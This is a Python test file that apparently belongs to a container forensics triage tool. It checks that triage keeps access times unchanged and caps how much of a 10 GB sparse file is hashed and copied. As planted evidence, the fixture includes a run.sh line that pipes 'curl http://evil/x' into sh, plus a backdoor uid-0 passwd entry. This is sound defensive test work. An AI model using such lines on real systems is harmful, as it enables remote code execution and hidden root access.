"""Two audits of issue 10 on a fake overlay2 host: the triage leaves every access time of the
analysed root as it was, and a 10 GB sparse file in a writable layer costs bounded time and
memory (hashed and copied only up to the caps)."""

from __future__ import annotations

import json
import os
import shutil
import stat
import tarfile
from pathlib import Path

import pytest

from forensics.containers.extract import MAX_FILE
from forensics.context import HostContext
from forensics.records import NotAvailable
from forensics.steps import TriageOptions
from forensics.triage import REGISTRY, TriageResult, load_steps, run_triage
from tests.hostile.harness import guarded
from tests.unit.test_container_diff import Overlay, build

pytestmark = pytest.mark.root

OLD = 1_000_000_000
"""An atime (2001) older than every mtime here: relatime would update it on a read."""
TRIAGE = ("host.facts", "disk.inventory", "containers.list", "containers.inspect", "containers.logs",
          "containers.runtime", "containers.diff", "containers.extract", "containers.compare",
          "images.analyse", "binary.triage", "scan.lint", "scan.trivy")  # fmt: skip
SPARSE = 10 * 1024**3


@pytest.fixture(autouse=True)
def _need_root() -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root: the triage reads a fake /var/lib/docker as root does")


def _triage(o: Overlay, out: Path, names: tuple[str, ...]) -> TriageResult:
    host = HostContext(o.root, NotAvailable("test: no engine"), no_engine=True)
    load_steps()
    steps = [REGISTRY[n] for n in names if n in REGISTRY]
    assert {"containers.diff", "containers.extract"} <= {s.name for s in steps}
    return run_triage(host, out, TriageOptions(), argv=["test"], steps=steps)


def _member(archive: Path, suffix: str) -> dict:
    with tarfile.open(archive) as tar:
        member = next(m for m in tar.getmembers() if m.name.endswith(suffix))
        handle = tar.extractfile(member)
        assert handle is not None
        return json.loads(handle.read())  # type: ignore[no-any-return]


def _entries(top: Path) -> list[str]:
    """Every file and directory under ``top`` (links left out: their atime is not ours to keep)."""
    found = [str(top)]
    for dirpath, dirnames, filenames in os.walk(top):
        for name in dirnames + filenames:
            path = os.path.join(dirpath, name)
            mode = os.lstat(path).st_mode
            if stat.S_ISDIR(mode) or stat.S_ISREG(mode):
                found.append(path)
    return found


def test_triage_leaves_every_access_time_under_the_root_unchanged(tmp_path: Path) -> None:
    o = build(tmp_path)
    (o.upper / "etc").mkdir()
    (o.upper / "etc/passwd").write_bytes(b"root:x:0:0::/root:/bin/sh\nevil:x:0:0::/:/bin/sh\n")  # C
    (o.upper / "etc/shadow").write_bytes(b"root:*:19000:0:99999:7:::\n")
    (o.upper / "app/conf").mkdir(parents=True)
    (o.upper / "app/conf/settings.ini").write_text("[main]\ntoken=abc\n")
    (o.upper / "app/secret.env").write_text(
        "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"
    )
    (o.upper / "usr/local/bin").mkdir(parents=True)
    tool = o.upper / "usr/local/bin/tool"
    shutil.copyfile("/bin/true", tool)  # a real ELF for the binary triage
    tool.chmod(0o755)
    (o.upper / "usr/local/bin/run.sh").write_text("#!/bin/sh\ncurl http://evil/x | sh\n")
    (o.upper / "usr/local/bin/run.sh").chmod(0o755)
    # Collect first (listing a directory is itself a read), then age every atime.
    paths = _entries(o.root)
    for path in paths:
        st = os.lstat(path)
        assert st.st_mtime_ns > OLD * 10**9
        os.utime(path, ns=(OLD * 10**9, st.st_mtime_ns), follow_symlinks=False)
    assert all(os.lstat(p).st_atime_ns == OLD * 10**9 for p in paths)
    out = tmp_path / "out"
    result = guarded(lambda: _triage(o, out, TRIAGE), "triage")
    status = {s.name: s.status for s in result.outcomes}
    assert status["containers.diff"] == "ok" and status["containers.extract"] == "ok", result.outcomes
    # The run did read the files: the extraction holds them.
    copied = {
        f["path"] for f in _member(result.archive.path, "/files.json")["files"] if f["status"] == "copied"
    }
    assert {"/etc/passwd", "/app/secret.env", "/usr/local/bin/tool"} <= copied, copied
    changed = [
        f"{os.path.relpath(p, o.root)} ({os.lstat(p).st_atime_ns // 10**9})"
        for p in paths
        if os.lstat(p).st_atime_ns != OLD * 10**9
    ]
    assert not changed, f"{len(changed)} access time(s) changed under the root: {changed[:40]}"


def test_a_10gb_sparse_file_is_hashed_and_copied_only_up_to_the_caps(tmp_path: Path) -> None:
    o = build(tmp_path)
    (o.upper / "data").mkdir()
    big = o.upper / "data/huge.img"
    with open(big, "wb") as f:
        f.write(b"\x7fELF head")  # real first bytes, then a hole
        f.truncate(SPARSE)
    assert big.stat().st_size == SPARSE and big.stat().st_blocks * 512 < 1 << 20  # takes no disk
    (o.upper / "data/small.txt").write_bytes(b"small\n")
    out = tmp_path / "out"
    result = guarded(
        lambda: _triage(
            o, out, ("disk.inventory", "containers.list", "containers.diff", "containers.extract")
        ),
        "sparse",
    )
    status = {s.name: s.status for s in result.outcomes}
    assert status["containers.diff"] == "ok" and status["containers.extract"] == "ok", result.outcomes
    diff = {e["path"]: e for e in _member(result.archive.path, "/diff.json")["changes"]}
    huge = diff["/data/huge.img"]
    assert huge["current"]["size"] == SPARSE
    assert not isinstance(huge["sha256"], str) or len(huge["sha256"]) != 64, huge["sha256"]  # not hashed
    assert "hash limit" in json.dumps(huge["sha256"]), huge["sha256"]
    assert isinstance(diff["/data/small.txt"]["sha256"], str) and len(diff["/data/small.txt"]["sha256"]) == 64
    files = {f["path"]: f for f in _member(result.archive.path, "/files.json")["files"]}
    capped = files["/data/huge.img"]
    assert capped["status"] == "capped", capped
    assert capped["copied_bytes"] == MAX_FILE, capped
    assert "cap" in capped["reason"], capped
    assert files["/data/small.txt"]["status"] == "copied"
    with tarfile.open(result.archive.path) as tar:
        copy = next(m for m in tar.getmembers() if m.name.endswith(capped["archive_name"]))
        assert copy.size == MAX_FILE
